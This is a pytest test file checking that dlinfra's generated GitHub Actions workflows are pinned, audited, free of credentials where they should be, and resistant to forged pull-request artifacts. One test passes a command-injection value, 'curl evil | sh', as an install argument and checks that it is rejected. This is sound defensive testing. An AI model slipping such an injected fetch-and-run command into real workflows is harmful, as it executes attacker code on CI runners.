"""`dlinfra init --github`: the workflows an experiment repository adopts in one step. They pass
GitHub's workflow schema and zizmor's audit, pin every action by SHA and dlinfra as given, keep the
plan job free of credentials and write access; the comment step edits its one comment on every push,
and fails its job when it could not check the pull request. GitHub's API cannot be reached here:
tests/data/github_api_standin.py stands in for `gh api`."""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
import yaml

from dlinfra.github import APPLY, COMMENT, PLAN, PLAN_AWS
from support import REPO as ROOT
from support import assert_valid_workflow, run_cli
from workflow_steps import run_job

STANDIN = ROOT / "tests" / "data" / "github_api_standin.py"
REPO = "octo/experiments"
HEAD = "b" * 40
# what a user passes when this dlinfra has no pin of its own (tests/test_workflow_install.py)
INSTALL = "dlinfra[aws,emulator] @ git+https://github.com/octo/dlinfra@" + "a" * 40


@pytest.fixture(scope="module")
def written(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Every workflow `init --github` can write: the default two, and the optional AWS plan and apply."""
    root = tmp_path_factory.mktemp("user-repo")
    result = run_cli(
        "init", "--github", "--aws", "--apply", "--install", INSTALL, cwd=root, env=dict(os.environ)
    )
    assert result.returncode == 0, result.stdout + result.stderr
    return root / ".github" / "workflows"


def _doc(folder: Path, name: str) -> dict[str, Any]:
    doc = yaml.safe_load((folder / name).read_text())
    doc["on"] = doc.pop(True)  # YAML 1.1 reads the key `on` as true
    return doc


def test_init_github_writes_the_two_review_workflows_and_asks_before_replacing(tmp_path: Path) -> None:
    init = ("init", "--github", "--install", INSTALL)
    first = run_cli(*init, cwd=tmp_path, env=dict(os.environ))
    assert first.returncode == 0, first.stderr
    assert sorted(p.name for p in (tmp_path / ".github" / "workflows").iterdir()) == [COMMENT, PLAN]
    again = run_cli(*init, cwd=tmp_path, env=dict(os.environ))
    assert again.returncode == 2 and "--force" in again.stderr and "Traceback" not in again.stderr
    assert run_cli(*init, "--force", cwd=tmp_path, env=dict(os.environ)).returncode == 0


@pytest.mark.parametrize(
    ("flag", "value"), [("--install", 'dlinfra"; curl evil | sh; "'), ("--experiments", "../elsewhere")]
)
def test_init_github_refuses_what_would_break_out_of_the_yaml_or_the_repo(
    tmp_path: Path, flag: str, value: str
) -> None:
    args = {"--install": INSTALL, flag: value}
    result = run_cli(
        "init", "--github", *(x for kv in args.items() for x in kv), cwd=tmp_path, env=dict(os.environ)
    )
    assert result.returncode == 2, result.stdout + result.stderr
    assert flag in result.stderr and "Fix:" in result.stderr and "Traceback" not in result.stderr
    assert not (tmp_path / ".github").exists()


@pytest.mark.parametrize("name", [PLAN, COMMENT, PLAN_AWS, APPLY])
def test_generated_workflow_is_valid_for_github_actions(written: Path, name: str) -> None:
    assert_valid_workflow(written / name)


@pytest.mark.parametrize("name", [PLAN, COMMENT, PLAN_AWS, APPLY])
def test_generated_workflow_pins_actions_like_the_repos_own_and_dlinfra_as_given(
    written: Path, name: str
) -> None:
    own = {
        step["uses"].split("@")[0]: step["uses"]
        for wf in ("plan.yml", "ci.yml")
        for job in _doc(ROOT / ".github" / "workflows", wf)["jobs"].values()
        for step in job["steps"]
        if "uses" in step
    }
    doc = _doc(written, name)
    uses = [step["uses"] for job in doc["jobs"].values() for step in job["steps"] if "uses" in step]
    assert uses and all(u == own[u.split("@")[0]] for u in uses), uses
    if name != COMMENT:
        assert doc["env"]["DLINFRA_INSTALL"] == INSTALL


def test_default_review_job_holds_no_credential_and_no_write_access(written: Path) -> None:
    doc = _doc(written, PLAN)
    assert list(doc["on"]) == ["pull_request"], "pull_request_target would hand fork code a write token"
    assert doc["permissions"] == {"contents": "read"}
    [job] = doc["jobs"].values()
    assert job["permissions"] == {"contents": "read"} and "environment" not in job
    text = (written / PLAN).read_text()
    assert "secrets." not in text and "id-token" not in text and "aws-actions/" not in text
    runs = "\n".join(step.get("run", "") for step in job["steps"])
    assert "--emulated" in runs and "--base" in runs


def test_comment_workflow_runs_no_pull_request_code(written: Path) -> None:
    doc = _doc(written, COMMENT)
    assert list(doc["on"]) == ["workflow_run"] and doc["permissions"] == {}
    assert doc["on"]["workflow_run"]["workflows"] == ["dlinfra plan", "dlinfra plan (aws)"]
    [job] = doc["jobs"].values()
    assert job["permissions"] == {"actions": "read", "pull-requests": "write"}
    assert not any("checkout" in step.get("uses", "") for step in job["steps"])
    assert "dlinfra" not in "\n".join(
        step.get("run", "").replace("dlinfra-plan", "") for step in job["steps"]
    )


def test_credentialed_jobs_sit_behind_the_protected_environment_with_oidc(written: Path) -> None:
    for name, role in ((PLAN_AWS, "DLINFRA_PLAN_ROLE_ARN"), (APPLY, "DLINFRA_APPLY_ROLE_ARN")):
        [job] = _doc(written, name)["jobs"].values()
        assert job["environment"] == "dlinfra-plan" and job["permissions"]["id-token"] == "write"
        assert (
            f"vars.{role}" in (written / name).read_text() and "secrets." not in (written / name).read_text()
        )
    [plan_aws] = _doc(written, PLAN_AWS)["jobs"].values()
    assert "head.repo.full_name == github.repository" in plan_aws["if"], "forks never reach the role"
    runs = "\n".join(step.get("run", "") for step in plan_aws["steps"])
    assert "--no-upload" in runs and "--emulated" not in runs
    [apply] = _doc(written, APPLY)["jobs"].values()
    assert "deploy" in "\n".join(s.get("run", "") for s in apply["steps"]) and "--detach" in str(apply)


def test_comments_and_applies_queue_and_an_apply_is_never_stopped_midway(written: Path) -> None:
    comment = _doc(written, COMMENT)["concurrency"]
    assert comment["cancel-in-progress"] is False, "stopped between finding and posting: a second comment"
    assert all(f"workflow_run.{key}" in comment["group"] for key in ("name", "head_branch"))
    assert _doc(written, APPLY)["concurrency"] == {
        "group": "dlinfra-apply",
        "cancel-in-progress": False,
        "queue": "max",  # the default cancels a pending apply, and no later push deploys its experiments
    }
    plans = [_doc(written, name)["concurrency"] for name in (PLAN, PLAN_AWS)]
    assert all(plan["cancel-in-progress"] is True for plan in plans)
    assert all("pull_request.number" in plan["group"] for plan in plans)
    assert plans[0]["group"] != plans[1]["group"], "a push must not stop the other review"


# ---------------------------------------------------------------- zizmor, the GitHub Actions linter


def _zizmor() -> str:
    """The dev extra's zizmor. Missing, the test fails: a skipped audit would read as a passed one."""
    beside = Path(sys.executable).with_name("zizmor")  # the venv's, even when its bin is not on PATH
    found = str(beside) if beside.is_file() else shutil.which("zizmor")
    assert found, "zizmor is not installed. Fix: pip install -e '.[dev]'"
    return found


@pytest.mark.parametrize("whose", ["generated", "own"])
def test_workflows_pass_zizmor_as_auditor_with_each_exception_justified_inline(
    written: Path, whose: str
) -> None:
    """The auditor persona reports everything, pedantic findings and false positives included: each
    one is fixed, or silenced by an ignore comment on its line that says why. --no-config: an
    exception lives next to what it excuses, never in a config file a reviewer of the workflow does
    not see. --offline and no token: no network (the online audits, such as known-vulnerable action
    versions, need GitHub's API and are not run)."""
    if whose == "generated":
        inputs = sorted(written.iterdir())
        assert [p.name for p in inputs] == sorted([PLAN, COMMENT, PLAN_AWS, APPLY])
    else:
        inputs = [ROOT / ".github"]
    audit = ["--offline", "--persona", "auditor", "--no-config", "--strict-collection", "--format", "json"]
    tokens = ("GH_TOKEN", "GITHUB_TOKEN", "ZIZMOR_GITHUB_TOKEN", "ZIZMOR_CONFIG")
    result = subprocess.run(
        [_zizmor(), *audit, *map(str, inputs)],
        capture_output=True,
        text=True,
        env={k: v for k, v in os.environ.items() if k not in tokens},
        timeout=120,
    )
    assert result.stdout.strip(), result.stderr
    found = [
        f"{f['ident']} at {loc['symbolic']['key']['Local']['verbatim_path']}:"
        f"{loc['concrete']['location']['start_point']['row'] + 1}"
        for f in json.loads(result.stdout)
        for loc in f["locations"]
        if loc["symbolic"]["kind"] == "Primary"
    ]
    assert found == [] and result.returncode == 0, "\n".join(found) + result.stderr
    for path in inputs if whose == "generated" else sorted((ROOT / ".github").rglob("*.y*ml")):
        for n, line in enumerate(path.read_text().splitlines(), 1):
            if ignore := re.search(r"zizmor:\s*ignore\[[^\]]*\](.*)", line):
                assert len(ignore[1].strip(" -:")) >= 20, f"{path.name}:{n}: an ignore must say why"


# ---------------------------------------------------------------- the comment step, run for real


def _post(
    written: Path, tmp: Path, state: dict[str, Any], comment: str, head: str = HEAD, failed: str | None = None
) -> dict[str, Any]:
    """The comment job's own steps, on an artifact holding `comment`, against the stand-in's state;
    `failed`: the step the job must fail at (None: it must succeed)."""
    work = tmp / "job"
    (work / "dlinfra-plan").mkdir(parents=True, exist_ok=True)
    (work / "dlinfra-plan" / "comment.md").write_text(comment)
    (work / "dlinfra-plan" / "pr-number").write_text("7\n")
    bin_dir = tmp / "bin"
    bin_dir.mkdir(exist_ok=True)
    (bin_dir / "gh").write_text(f'#!/bin/sh\nexec "{sys.executable}" "{STANDIN}" "$@"\n')
    (bin_dir / "gh").chmod(0o755)
    state_file = tmp / "github.json"
    state_file.write_text(json.dumps(state))
    github = {
        "github.token": "ghs_standin",
        "github.repository": REPO,
        "github.event.workflow_run.head_sha": head,
        "github.event.workflow_run.name": "dlinfra plan",
        "github.event.workflow_run.id": "1",
    }
    env = {"PATH": f"{bin_dir}:{os.environ['PATH']}", "GITHUB_STANDIN_STATE": str(state_file)}
    job = run_job(written / COMMENT, "comment", work, github, env, check=failed is None)
    assert job.skipped == ["actions/download-artifact@fa0a91b85d4f404e444e00e005971372dc801d16"]
    assert job.failed == failed
    state = json.loads(state_file.read_text())
    state["stderr"] = "".join(run.stderr for run in job.outputs.values())
    return state


def test_comment_step_creates_one_comment_then_edits_it_on_the_next_push(
    written: Path, tmp_path: Path
) -> None:
    someone = {
        "id": 5,
        "pr": 7,
        "user": {"login": "octocat"},
        "body": "<!-- dlinfra-plan --> quoted by a person",
    }
    state = {"repo": REPO, "pulls": {"7": HEAD}, "comments": [someone], "calls": []}
    state = _post(written, tmp_path, state, "### first push: worker 3 → 5 (+2)\n")
    ours = [c for c in state["comments"] if c["user"]["login"] == "github-actions[bot]"]
    assert len(ours) == 1 and ours[0]["body"].startswith("<!-- dlinfra-plan -->\n### first push")
    state["calls"] = []
    state = _post(written, tmp_path, state, "### second push: worker 3 → 6 (+3)\n")
    ours = [c for c in state["comments"] if c["user"]["login"] == "github-actions[bot]"]
    assert len(ours) == 1, "a second push must edit the comment, not add one"
    assert "second push" in ours[0]["body"] and "first push" not in ours[0]["body"]
    methods = [call[call.index("--method") + 1] for call in state["calls"] if "--method" in call]
    assert methods == ["PATCH"] and f"repos/{REPO}/issues/comments/{ours[0]['id']}" in state["calls"][-1]
    assert someone in state["comments"], "a person's comment quoting the marker is never edited"


def test_comment_step_posts_nothing_for_an_artifact_that_names_another_pull_request(
    written: Path, tmp_path: Path
) -> None:
    """A fork controls its artifact: pr-number 7 while #7's head is another commit is not posted."""
    state = {"repo": REPO, "pulls": {"7": "c" * 40}, "comments": [], "calls": []}
    state = _post(written, tmp_path, state, "forged\n")
    assert state["comments"] == [] and not any("--method" in call for call in state["calls"])
    assert "refused on purpose" in state["stderr"], "told apart from an API call that failed"


@pytest.mark.parametrize(
    "error",
    ["Bad credentials (HTTP 401)", "API rate limit exceeded for installation ID 1. (HTTP 403)"],
)
def test_comment_job_is_red_when_it_could_not_check_the_pull_request(
    written: Path, tmp_path: Path, error: str
) -> None:
    """A failed head check (a token GitHub refuses, a rate limit, no network) posted nothing: the
    job fails and says it could not check, never "forged artifact" and green."""
    state = {"repo": REPO, "pulls": {"7": HEAD}, "comments": [], "calls": []}
    state["fail"] = {f"GET repos/{REPO}/pulls/7": error}
    state = _post(written, tmp_path, state, "a plan\n", failed="Post or update the plan comment")
    assert state["comments"] == [] and error in state["stderr"]
    assert "could not read pull request #7" in state["stderr"]
    assert "forged" not in state["stderr"] and "refused" not in state["stderr"]


def test_comment_workflow_posts_the_review_of_a_failed_plan_too(written: Path) -> None:
    """The plan job is red when a plan failed (tests/test_workflow_install.py runs it); its review,
    which shows why, still reaches the pull request."""
    [job] = _doc(written, COMMENT)["jobs"].values()
    assert "conclusion == 'failure'" in job["if"] and "conclusion == 'success'" in job["if"]
    for name in (PLAN, PLAN_AWS):
        [plan] = _doc(written, name)["jobs"].values()
        [upload] = [s for s in plan["steps"] if "upload-artifact" in s.get("uses", "")]
        assert upload["if"] == "${{ !cancelled() }}"
